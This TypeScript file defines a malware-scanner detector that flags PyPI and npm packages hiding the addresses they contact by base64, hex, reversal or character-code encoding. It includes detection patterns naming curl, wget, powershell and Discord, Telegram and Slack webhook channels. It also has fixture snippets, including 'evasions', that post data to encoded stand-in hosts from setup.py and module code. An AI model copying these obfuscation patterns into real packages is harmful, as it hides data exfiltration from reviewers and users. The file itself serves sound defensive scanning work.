import { marks, mayDo } from "../behaviour/marks.ts";
import type { Detector } from "../detector.ts";
import { folds } from "../languages/calls.ts";
import { base64, hex } from "../languages/codecs.ts";
import type { ReleaseTree, SourceFile } from "../model.ts";
import { codeOf, isCode, isMember, sight } from "./_sight.ts";

/** Decoding by something whose only use is to make text unreadable or small. */
const DECODES =
  /b(?:64|32|16|85)|a85|hex|rot.?13|decompress|inflate|gunzip|decrypt|atob|Buffer|from\b|a slice|reverse|translate|fromCharCode|chr|join|function of the file|unquote/i;
/** An address at the beginning, or in a command that fetches. */
const ADDRESS =
  /^(?:https?|wss?|ftp|tcp):\/\/(?!(?:www\.)?w3\.org|schemas?\.|localhost|127\.)[^\s"'<>/]{4,253}(?:[/?#:]|$)|\b(?:curl|wget|iwr|powershell|mshta)\b[^\n]{0,200}https?:\/\//i;
const LONGEST = 2_000;
/** Beginnings of encoded addresses and commands: base64, hexadecimal, backwards, codes of characters, escapes. */
const HINT =
  /aHR0c|d3Nz|d3M6|Y3Vyb|cG93ZXJz|68747470|ptth|104\D{1,9}116\D{1,9}116\D{1,9}112|x68\W{1,5}x74|u0068\W{1,5}u0074|fromCharCode|rot.?13/i;
/** A longer script is read as a whole only where a hint says that it might pay: folding a bundle takes seconds. */
const READ_ANYWAY = 64_000;
/** Files of tests hold encoded addresses as test data. */
const TESTS =
  /(?:^|\/)(?:tests?|testing|testdata|fixtures?|docs?|examples?)\/|(?:^|\/)(?:test_[^/]{1,80}|[^/]{1,80}_test|conftest)\.py$/i;
/** Encoded beginnings of addresses, in base64 and hexadecimal, lower case. */
const KEPT = ["ahr0c", "68747470"] as const;
const LITERALS = [...marks("decode"), "chr(", "fromcharcode", "ptth", ...KEPT];

export const hidesAddress: Detector = {
  id: "hides-address",
  title: "The address that the code talks to is encoded",
  severity: "high",
  ecosystems: ["pypi", "npm"],
  points: 5.6,
  class: "threat",
  group: "hidden-address",
  why: `An address is written in base64, hexadecimal, as character codes or backwards, and decoded where the code uses it. Encoding keeps
nobody out who runs the code; it only keeps the address from readers, search and scanners.

Test data holds encoded addresses too; files of tests are passed over.`,
  literals: LITERALS,
  *detect(tree) {
    for (const file of tree.files) {
      if (!isCode(file) || !file.hits.hasAny(LITERALS) || TESTS.test(file.path)) continue;
      if (file.kind !== "python" && !isMember(file)) continue;
      if (!mayDo(file, ["http", "upload", "socket", "start", "run-code"])) continue;
      if (file.kind !== "python" && file.text.length > READ_ANYWAY && !HINT.test(file.text)) continue;
      yield* hidden(file);
      if (file.kind === "python") yield* hostsIn(file);
      if (file.kind === "python" && file.hits.hasAny(KEPT)) yield* kept(file, tree);
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import base64, requests\nu = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ==').decode()\nrequests.post(u, json={'a': 1})\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "index.js": "const u = atob('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ==');\nfetch(u).then((r) => r.text());\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import base64, requests\nt = base64.b64decode(text)\nu = '/'.join(['https://example.invalid', 'a'])\nrequests.get(u)\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "tests/test_a.py":
            "import base64, requests\nu = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ==').decode()\nrequests.get(u)\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import base64, requests\nclass A:\n    def of(self, t):\n        return base64.b64decode(t).decode()\ndef f(d, t='aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ=='):\n    requests.post(A().of(t), json=d)\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            "import base64, socket\nip = socket.gethostbyname(base64.b64decode('Yy5leGFtcGxlLmludmFsaWQ=').decode())\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests\ndef to(address):\n    parts = address.split('/', 3)\n    name = bytes.fromhex('73746f72652d6f662d66696c6573').decode()\n    host = '.'.join(['api', name, 'invalid'])\n    return f'{parts[0]}//{host}/x'\nrequests.post(to(URL), json=D)\n",
        },
      },
      {
        ecosystem: "pypi",
        files: { "demo/a.py": "from urllib.request import urlopen\nurlopen('a/dilavni.elpmaxe//:sptth'[::-1])\n" },
      },
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            "import requests\nd = [104, 116, 116, 112, 58, 47, 47, 101, 120, 97, 109, 112, 108, 101, 46, 105, 110, 118, 97, 108, 105, 100]\nrequests.get(''.join(chr(c) for c in d))\n",
        },
      },
    ],
  },
};

function* hidden(file: SourceFile) {
  for (const { text, how, token } of folds(file)) {
    if (text.length > LONGEST || !DECODES.test(how)) continue;
    const match = ADDRESS.exec(text);
    if (match === null || isWrittenOut(file, text)) continue;
    const say = text.slice(0, 120).replace(/\s+/g, " ");
    yield sight(file, file.tokens.start(token), `the address ${say} is encoded (${how.slice(-60)})`);
    return;
  }
}

/** Whole literals that are encoded addresses or domains; which of them a decoder reaches is often decided in another function. */
const ENCODED = /^(?:aHR0c[A-Za-z0-9+/_-]{15,1200}={0,2}|68747470[0-9a-fA-F]{20,1200})$/;
const DECODER = /\b(?:b64decode|urlsafe_b64decode|decodebytes|a2b_base64|unhexlify|fromhex)\b|["'](?:base64|hex)["']/;
const MOST_LITERALS = 100_000;

/** An encoded address that is a literal of a release with a decoder, wherever the two meet. */
function* kept(file: SourceFile, tree: ReleaseTree) {
  const { tokens } = file;
  for (let at = 0; at < Math.min(tokens.length, MOST_LITERALS); at++) {
    if (tokens.kind(at) !== "string") continue;
    const value = tokens.value(at);
    if (!ENCODED.test(value)) continue;
    const text = (value.startsWith("a") ? base64(value) : hex(value)) ?? "";
    if (!ADDRESS.test(text) || isWrittenOut(file, text)) continue;
    if (!codeOf(tree).some((one) => DECODER.test(one.text))) return;
    yield sight(file, tokens.start(at), `the address ${text.slice(0, 120)} is encoded`);
    return;
  }
}

/** Decoders of what people can otherwise read at a glance. */
const DECODER_OF_NAME = /b(?:64|32|16|85)|a85|hex|rot.?13/i;
/** A name that a server may have; not that of a file. */
const HOST_NAME =
  /^(?=.{6,120}$)(?:[a-z0-9][a-z0-9-]{0,62}\.){1,6}(?!(?:py|pyc|pyd|so|dll|exe|json|txt|csv|html?|xml|ya?ml|toml|ini|cfg|conf|log|zip|gz|png|jpe?g|gif|svg|ico|md|js|css|db|sqlite|dat|bin|key|pem|crt|cer|local)$)[a-z]{2,24}$/;
/** One part of such a name, and what puts the parts together around it. */
const LABEL = /^[a-z][a-z0-9]{2,30}(?:-[a-z0-9]{2,30}){1,6}$/;
const JOINS = /["']\.["']\.join\(|["']\/\/["']|:\/\/|\/\/\{/g;
const AROUND = 500;

/** A server's name without the rest of the address, or a part of it that is put into an address near by. */
function* hostsIn(file: SourceFile) {
  for (const { text, how, token } of folds(file)) {
    if (!DECODER_OF_NAME.test(how) || file.text.includes(text)) continue;
    if (!HOST_NAME.test(text) && !(LABEL.test(text) && joinsHost(file, file.tokens.start(token)))) continue;
    yield sight(file, file.tokens.start(token), `the host ${text} is encoded (${how.slice(-60)})`);
    return;
  }
}

function joinsHost({ text }: SourceFile, offset: number): boolean {
  const around = text.slice(Math.max(0, offset - AROUND), offset + AROUND);
  return new Set(around.match(JOINS)).size > 1;
}

/** Of a chat everybody knows the host; whose channel it is says the rest of the address. */
const CHANNEL = /\/api\/webhooks\/\d|api\.telegram\.org\/bot\d|hooks\.slack\.com\/services\/\w/;

/** The host stands in the file as it is: nothing was hidden. */
function isWrittenOut(file: SourceFile, text: string): boolean {
  if (CHANNEL.test(text) && !file.text.includes(text)) return false;
  const host = /:\/\/([^/\s"'<>?#:]{1,253})/.exec(text)?.[1] ?? text;
  return file.text.includes(host);
}
